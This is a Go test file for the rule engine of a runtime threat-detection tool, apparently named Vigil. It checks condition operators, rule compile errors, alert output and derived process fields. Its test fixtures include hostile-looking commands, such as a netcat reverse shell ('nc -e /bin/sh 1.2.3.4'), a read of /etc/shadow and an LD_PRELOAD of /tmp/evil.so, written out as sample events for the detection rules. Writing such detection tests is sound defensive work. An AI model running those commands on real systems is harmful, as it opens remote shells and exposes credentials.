package detect

import (
	"strings"
	"testing"

	"google.golang.org/protobuf/types/known/timestamppb"

	vigilv1 "github.com/vigilsec/vigil/proto/vigil/v1"
)

// matches compiles cond as the only rule (after the extra items) and
// reports whether ev fires it.
func matches(t *testing.T, extra, cond string, ev *vigilv1.Event) bool {
	t.Helper()
	text := extra + "\n- rule: test rule\n  desc: d\n  condition: |-\n    " + strings.ReplaceAll(cond, "\n", "\n    ") +
		"\n  output: o\n  priority: INFO\n"
	rs, errs := loadYAML(t, text)
	for _, e := range errs {
		t.Fatalf("unexpected warning: %v", e)
	}
	e := NewEngine(EngineConfig{}, nil, nil)
	e.SetRules(rs)
	return len(fired(e, ev)) == 1
}

func TestOperators(t *testing.T) {
	bash := withParents(mkProc("bash", "/usr/bin/bash", "bash", "-c", "cat /etc/Shadow"), "sshd", "systemd")
	exec := execEv(bash)
	open := openEv(bash, "/etc/ssh/sshd_config", 0)
	conn := connectEv(bash, "10.1.2.3", 443)
	conn6 := connectEv(bash, "2001:db8::1", 22)
	failed := openEv(bash, "/root/x", 0, result(-13, "EACCES"))

	cases := []struct {
		name string
		cond string
		ev   *vigilv1.Event
		want bool
	}{
		{"equals matches the same string", "proc.name = bash", exec, true},
		{"equals does not match another string", "proc.name = sh", exec, false},
		{"not-equals matches another string", "proc.name != sh", exec, true},
		{"not-equals is false on a missing field", "fd.name != /x", exec, false},
		{"numeric less than", "proc.pid < 101", exec, true},
		{"numeric less than or equal at the bound", "proc.pid <= 100", exec, true},
		{"numeric greater than", "proc.pid > 100", exec, false},
		{"numeric greater than or equal", "proc.pid >= 100", exec, true},
		{"hex number", "proc.pid = 0x64", exec, true},
		{"contains a substring", "proc.cmdline contains /etc/", exec, true},
		{"contains is case-sensitive", "proc.cmdline contains /etc/shadow", exec, false},
		{"icontains ignores case", "proc.cmdline icontains /ETC/shadow", exec, true},
		{"bcontains matches bytes given in hex", "proc.name bcontains 6173", exec, true},
		{"bstartswith matches leading bytes", "proc.name bstartswith 6261", exec, true},
		{"startswith", "proc.exepath startswith /usr/", exec, true},
		{"startswith does not match the middle", "proc.exepath startswith /bin", exec, false},
		{"endswith", "proc.exepath endswith /bash", exec, true},
		{"glob star crosses slashes", "proc.exepath glob '/usr/*sh'", exec, true},
		{"glob question mark is one character", "proc.name glob 'b?sh'", exec, true},
		{"glob character class", "proc.name glob '[ab]ash'", exec, true},
		{"glob must match the whole string", "proc.name glob 'ba'", exec, false},
		{"iglob ignores case", "proc.exepath iglob '/USR/BIN/*'", exec, true},
		{"regex is anchored", "proc.name regex 'ba'", exec, false},
		{"regex full match", "proc.name regex 'b[a-z]+'", exec, true},
		{"in a list", "proc.name in (sh, bash)", exec, true},
		{"not in a list", "proc.name in (sh, zsh)", exec, false},
		{"in with numbers", "fd.sport in (80, 443)", conn, true},
		{"intersects any ancestor", "proc.aname intersects (systemd, init)", exec, true},
		{"pmatch matches a path prefix", "fd.name pmatch (/etc/ssh, /var)", open, true},
		{"pmatch needs whole components", "fd.name pmatch (/etc/ss)", open, false},
		{"pmatch with a glob component", "fd.name pmatch (/etc/*/sshd_config)", open, true},
		{"exists on a present field", "proc.pname exists", exec, true},
		{"exists on a missing field", "fd.name exists", exec, false},
		{"and needs both", "proc.name = bash and proc.pid = 1", exec, false},
		{"or needs one", "proc.name = sh or proc.pid = 100", exec, true},
		{"not negates", "not proc.name = sh", exec, true},
		{"not on a missing field is true", "not fd.name = /x", exec, true},
		{"tolower transformer", "tolower(proc.cmdline) contains /etc/shadow", exec, true},
		{"toupper transformer", "toupper(proc.name) = BASH", exec, true},
		{"len transformer", "len(proc.name) = 4", exec, true},
		{"basename transformer", "basename(proc.exepath) = bash", exec, true},
		{"val compares two fields", "proc.name = val(proc.aname[0])", exec, true},
		{"val with different fields", "proc.name = val(proc.pname)", exec, false},
		{"transformers on both sides", "toupper(proc.name) = toupper(proc.name)", exec, true},
		{"ancestor by index", "proc.aname[2] = systemd", exec, true},
		{"ancestor without index matches any", "proc.aname = systemd", exec, true},
		{"ancestor beyond the lineage is missing", "proc.aname[5] exists", exec, false},
		{"parent name", "proc.pname = sshd", exec, true},
		{"IP equality", "fd.sip = 10.1.2.3", conn, true},
		{"IP in a CIDR list", `fd.snet in ("10.0.0.0/8", "192.168.0.0/16")`, conn, true},
		{"IP net equality with a CIDR", `fd.net = "10.1.0.0/16"`, conn, true},
		{"IP net inequality when neither end is inside", `fd.net != "127.0.0.0/8"`, conn, true},
		{"IPv6 address", "fd.sip = 2001:db8::1", conn6, true},
		{"fd.typechar for IPv6", "fd.typechar = 6", conn6, true},
		{"connection tuple", "fd.name = 172.17.0.2:40000->10.1.2.3:443", conn, true},
		{"evt.res is the errno name", "evt.res = EACCES", failed, true},
		{"evt.res startswith E on failure", "evt.res startswith E", failed, true},
		{"evt.res is SUCCESS on success", "evt.res = SUCCESS", open, true},
		{"fd.num is -1 when the open failed", "fd.num = -1", failed, true},
		{"evt.dir is always exit", "evt.dir = '<'", exec, true},
		{"evt.num is never zero", "evt.num = 0", exec, false},
		{"container.id is host outside containers", "container.id = host", exec, true},
		{"flags contains tests one flag", "evt.arg.flags contains O_TRUNC", openEv(bash, "/var/log/x", 0o1001), true},
		{"flags contains does not match part of a flag name", "evt.arg.flags contains O_WR", openEv(bash, "/x", 0o1), false},
		{"flags contains matches a whole flag name", "evt.arg.flags contains O_WRONLY", openEv(bash, "/x", 0o1), true},
		{"is_open_write on a write open", "evt.is_open_write = true", openEv(bash, "/x", 1), true},
		{"is_open_read is false for write-only", "evt.is_open_read = true", openEv(bash, "/x", 1), false},
		{"bool field against true", "proc.is_exe_upper_layer = true", exec, false},
		{"evt.type in a list", "evt.type in (execve, execveat)", exec, true},
		{"chmod mode renders S_I names", `evt.arg.mode contains "S_ISUID"`, chmodEv(bash, "/tmp/x", 0o4755), true},
		{"chmod mode without setuid", `evt.arg.mode contains "S_ISUID"`, chmodEv(bash, "/tmp/x", 0o755), false},
		{"evt.dir compared with a bare >", "evt.dir=>", exec, false},
		{"container.info outside containers", "container.info = host", exec, true},
		{"dns.domain is one label under the public suffix", "dns.domain = example.co.uk", dnsEv(bash, "a.b.example.co.uk"), true},
		{"dns.domain of a name under an unlisted suffix", "dns.domain = vigil.test", dnsEv(bash, "x.vigil.test."), true},
		{"dns.label.longest is left of the domain", "dns.label.longest = 0a1b2c3d4e5f", dnsEv(bash, "0a1b2c3d4e5f.ab.verylongregistereddomainname.com"), true},
		{"dns.label.longest is empty for the domain itself", `dns.label.longest = ""`, dnsEv(bash, "verylongregistereddomainname.com"), true},
		{"len of dns.label.longest", "len(dns.label.longest) >= 12", dnsEv(bash, "0a1b2c3d4e5f.x.example.com"), true},
		{"proc.argc counts argv[0]", "proc.argc = 3", exec, true},
		{"proc.argv[0] compared with the empty string", `proc.argc = 1 and proc.argv[0] = ""`, mk(mkProc("pkexec", "/usr/bin/pkexec", ""), "execve"), true},
		{"fd.procpid reads the pid of a /proc path", "fd.procpid = 4242", openEv(bash, "/proc/4242/environ", 0), true},
		{"fd.procpid compared with the opener's pid", "fd.procpid = val(proc.pid)", openEv(bash, "/proc/100/environ", 0), true},
		{"fd.procpid is missing outside /proc/PID", "fd.procpid exists", openEv(bash, "/proc/self/environ", 0), false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := matches(t, "", tc.cond, tc.ev); got != tc.want {
				t.Fatalf("%s: got %v, want %v", tc.cond, got, tc.want)
			}
		})
	}
}

func TestCompileErrors(t *testing.T) {
	cases := []struct {
		name, rules, want string
	}{
		{"undefined macro", "- rule: r\n  desc: d\n  condition: nosuchmacro\n  output: o\n  priority: INFO", "undefined macro nosuchmacro"},
		{"macro used before its definition",
			"- macro: a\n  condition: b\n- macro: b\n  condition: proc.name = x\n", "macro b is used before its definition"},
		{"bad number", "- rule: r\n  desc: d\n  condition: proc.pid = abc\n  output: o\n  priority: INFO", "not a number"},
		{"bad regex", "- rule: r\n  desc: d\n  condition: proc.name regex '('\n  output: o\n  priority: INFO", "bad regex"},
		{"bad CIDR", "- rule: r\n  desc: d\n  condition: fd.net = 10.0.0.0/99\n  output: o\n  priority: INFO", "not a CIDR"},
		{"ordering on a string", "- rule: r\n  desc: d\n  condition: proc.name < a\n  output: o\n  priority: INFO", "needs a numeric field"},
		{"capture outside a sequence", "- rule: r\n  desc: d\n  condition: proc.name = $x\n  output: o\n  priority: INFO", "only allowed in sequence"},
		{"bad priority", "- rule: r\n  desc: d\n  condition: proc.name = a\n  output: o\n  priority: LOUD", "invalid priority"},
		{"missing output", "- rule: r\n  desc: d\n  condition: proc.name = a\n  priority: INFO", "missing required key(s): output"},
		{"field without its index", "- rule: r\n  desc: d\n  condition: proc.name = a\n  output: '%container.label'\n  priority: INFO", "needs an argument"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, errs := LoadRules(mapFS("rules.yaml", tc.rules), "")
			if !HasErrors(errs) {
				t.Fatalf("no error, want %q", tc.want)
			}
			found := false
			for _, e := range errs {
				if strings.Contains(e.Error(), tc.want) {
					found = true
					if e.File != "builtin:rules.yaml" || e.Line == 0 || e.Item == "" {
						t.Errorf("error not located: %+v", e)
					}
				}
			}
			if !found {
				t.Fatalf("errors %v, want one containing %q", errs, tc.want)
			}
		})
	}
}

func TestUnsupportedFieldDisablesRule(t *testing.T) {
	rs, errs := LoadRules(mapFS("rules.yaml", `
- rule: uses an unknown field
  desc: d
  condition: proc.name = x and proc.vpgid.name = y
  output: "%proc.nosuchfield"
  priority: INFO
- rule: still loads
  desc: d
  condition: proc.name = x
  output: o
  priority: INFO
`), "")
	if HasErrors(errs) {
		t.Fatalf("unsupported fields must not fail the file: %v", errs)
	}
	if len(errs) != 1 || !errs[0].Warning || !strings.Contains(errs[0].Reason, "proc.nosuchfield, proc.vpgid.name") {
		t.Fatalf("want one warning naming both fields, got %v", errs)
	}
	infos := rs.Rules()
	if len(infos) != 2 || infos[0].Enabled || !infos[1].Enabled {
		t.Fatalf("want first rule disabled and second enabled, got %+v %+v", infos[0], infos[1])
	}
	if got := infos[0].Unsupported; len(got) != 2 {
		t.Fatalf("Unsupported = %v", got)
	}
}

func TestOutputRendering(t *testing.T) {
	p := withParents(mkProc("nc", "/usr/bin/nc", "nc", "-e", "/bin/sh", "1.2.3.4"), "bash", "sshd", "systemd")
	p.UserName = "alice"
	ev := execEv(p, inContainer("docker.io/library/alpine:3.20"))
	e := engineFor(t, `
- rule: r
  desc: d
  condition: proc.name = nc
  output: "pid=%proc.pid priv=%container.privileged cmd=%proc.cmdline gp=%proc.aname[2] img=%container.image.repository tag=%container.image.tag user=%toupper(user.name) missing=%fd.name pct=100%% end %proc.name."
  priority: WARNING
`)
	as := fired(e, ev)
	if len(as) != 1 {
		t.Fatalf("got %d alerts", len(as))
	}
	want := "pid=100 priv=false cmd=nc -e /bin/sh 1.2.3.4 gp=sshd img=docker.io/library/alpine tag=3.20 user=ALICE missing=<NA> pct=100% end nc."
	if as[0].Output != want {
		t.Fatalf("output\n got  %q\n want %q", as[0].Output, want)
	}
	of := as[0].OutputFields
	if of["proc.cmdline"] != "nc -e /bin/sh 1.2.3.4" || of["proc.aname[2]"] != "sshd" || of["fd.name"] != nil ||
		of["toupper(user.name)"] != "ALICE" || len(of) != 9 || of["proc.pid"] != int64(100) || of["container.privileged"] != false {
		t.Fatalf("output fields %v", of)
	}
	if as[0].Rule.Severity != 5 || as[0].Rule.FindingType != "Vigil:Runtime/R" {
		t.Fatalf("priority mapping: %+v", as[0].Rule)
	}
	if !as[0].Time.Equal(t0) || len(as[0].Events) != 1 || as[0].Events[0] != ev {
		t.Fatalf("alert evidence: %+v", as[0])
	}
}

func TestFindingMetadata(t *testing.T) {
	e := engineFor(t, `
- rule: Docker socket
  desc: d
  condition: fd.name = /var/run/docker.sock
  output: o
  priority: NOTICE
  tags: [mitre_privilege_escalation, T1611]
  finding:
    type: PrivilegeEscalation:Runtime/DockerSocketAccessed
    severity: 7
    context: {socketPath: fd.name, toolName: "curl", note: plain, dotted: "'fd.name'", text: "not.a.field"}
- rule: No finding block
  desc: d
  condition: fd.name = /var/run/docker.sock
  output: o
  priority: CRITICAL
  tags: [mitre_privilege_escalation, T1611]
`)
	as := fired(e, openEv(mkProc("curl", "/usr/bin/curl"), "/var/run/docker.sock", 2))
	if len(as) != 2 {
		t.Fatalf("got %d alerts", len(as))
	}
	a := as[0].Rule
	if a.FindingType != "PrivilegeEscalation:Runtime/DockerSocketAccessed" || a.Severity != 7 ||
		strings.Join(a.MitreTactics, ",") != "TA0004" || strings.Join(a.MitreTechniques, ",") != "T1611" {
		t.Fatalf("finding metadata: %+v", a)
	}
	if c := as[0].Context; c["socketPath"] != "/var/run/docker.sock" || c["toolName"] != "curl" || c["note"] != "plain" || c["dotted"] != "fd.name" || c["text"] != "not.a.field" {
		t.Fatalf("context: %v", c)
	}
	b := as[1].Rule
	if b.FindingType != "Vigil:Runtime/NoFindingBlock" || b.Severity != 9 {
		t.Fatalf("defaults: %+v", b)
	}
}

func TestFindingGroupBy(t *testing.T) {
	e := engineFor(t, `
- rule: Grouped
  desc: d
  condition: evt.type in (open, openat)
  output: o
  priority: WARNING
  finding:
    type: Execution:Runtime/ReverseShell
    group_by: [fd.name, proc.name]
- rule: Ungrouped
  desc: d
  condition: evt.type in (open, openat)
  output: o
  priority: WARNING
`)
	as := fired(e, openEv(mkProc("sh", "/bin/sh"), "/tmp/x", 0))
	if len(as) != 2 {
		t.Fatalf("got %d alerts", len(as))
	}
	if as[0].GroupKey != "/tmp/x\x00sh\x00" {
		t.Errorf("group key %q, want the values of fd.name and proc.name", as[0].GroupKey)
	}
	if as[1].GroupKey != "" {
		t.Errorf("a rule without group_by has group key %q", as[1].GroupKey)
	}

	_, errs := LoadRules(mapFS("rules.yaml", `
- rule: Bad group
  desc: d
  condition: evt.type in (open, openat)
  output: o
  priority: WARNING
  finding:
    type: Execution:Runtime/ReverseShell
    group_by: [proc.no_such_field]
`), "")
	if len(errs) != 1 || !strings.Contains(errs[0].Error(), "group_by: unknown field proc.no_such_field") {
		t.Errorf("errors = %v, want one naming the unknown group_by field", errs)
	}
}

func TestPrioritySeverity(t *testing.T) {
	cases := []struct {
		priority string
		want     float64
	}{
		{"Emergency", 9}, {"ALERT", 9}, {"critical", 9}, {"Error", 8}, {"WARNING", 5},
		{"notice", 4}, {"Informational", 2}, {"info", 2}, {"DEBUG", 1},
	}
	for _, tc := range cases {
		t.Run(tc.priority+" maps to its severity", func(t *testing.T) {
			if got := SeverityForPriority(tc.priority); got != tc.want {
				t.Fatalf("got %v, want %v", got, tc.want)
			}
		})
	}
}

func TestDerivedFields(t *testing.T) {
	p := withParents(mkProc("payload", "/tmp/payload"), "bash")
	p.ExeUpperLayer = true
	p.CapEffective = 1<<21 | 1<<16
	p.ExeCtime = timestamppb.New(t0.Add(-2 * 3600e9))
	ev := execEv(p, inContainer("alpine"))
	x := ev.GetExec()
	x.Stdio = []string{"socket", "pipe", "socket"}
	x.StdioRemote = []string{"203.0.113.7:4444", "", "@abstract"}
	x.LdPreload = "/tmp/evil.so"
	cases := []struct{ cond string }{
		{"thread.cap_effective icontains sys_module"},
		{"thread.cap_effective contains CAP_SYS_ADMIN"},
		{"evt.arg.flags contains EXE_UPPER_LAYER"},
		{"proc.duration > 3000000000000"},
		{"proc.exe_ino.ctime_duration_proc_start = 3600000000000"},
		{"container.id = 0123456789ab"},
		{"container.full_id = 0123456789abcdef0123"},
		{"user.loginuid = -1"},
		{"proc.stdin.type = ipv4 and proc.stdout.type = pipe and proc.stderr.type = unix"},
		{"proc.stdin.name = 203.0.113.7:4444"},
		{"proc.env[LD_PRELOAD] = /tmp/evil.so and not proc.env[LD_LIBRARY_PATH] exists"},
		{"proc.env contains 'LD_PRELOAD=/tmp/evil.so'"},
	}
	for _, tc := range cases {
		t.Run(tc.cond, func(t *testing.T) {
			if !matches(t, "", tc.cond, ev) {
				t.Fatalf("%s did not match", tc.cond)
			}
		})
	}
}

func TestUnsupportedFieldWithTypedOperator(t *testing.T) {
	// An unknown field compared numerically is still a warning, not an
	// error: its type is unknown, so the value is not judged.
	_, errs := LoadRules(mapFS("r.yaml", "- rule: r\n  desc: d\n  condition: proc.vpgid < 5 and evt.arg.nosuch contains x\n  output: o\n  priority: INFO\n"), "")
	if HasErrors(errs) || len(errs) != 1 || !strings.Contains(errs[0].Reason, "evt.arg.nosuch, proc.vpgid") {
		t.Fatalf("errs %v", errs)
	}
}

func chmodEv(p *vigilv1.Process, path string, mode uint32) *vigilv1.Event {
	e := mk(p, "fchmodat")
	e.Kind = &vigilv1.Event_Chmod{Chmod: &vigilv1.FileChmod{Path: path, Mode: mode}}
	return e
}
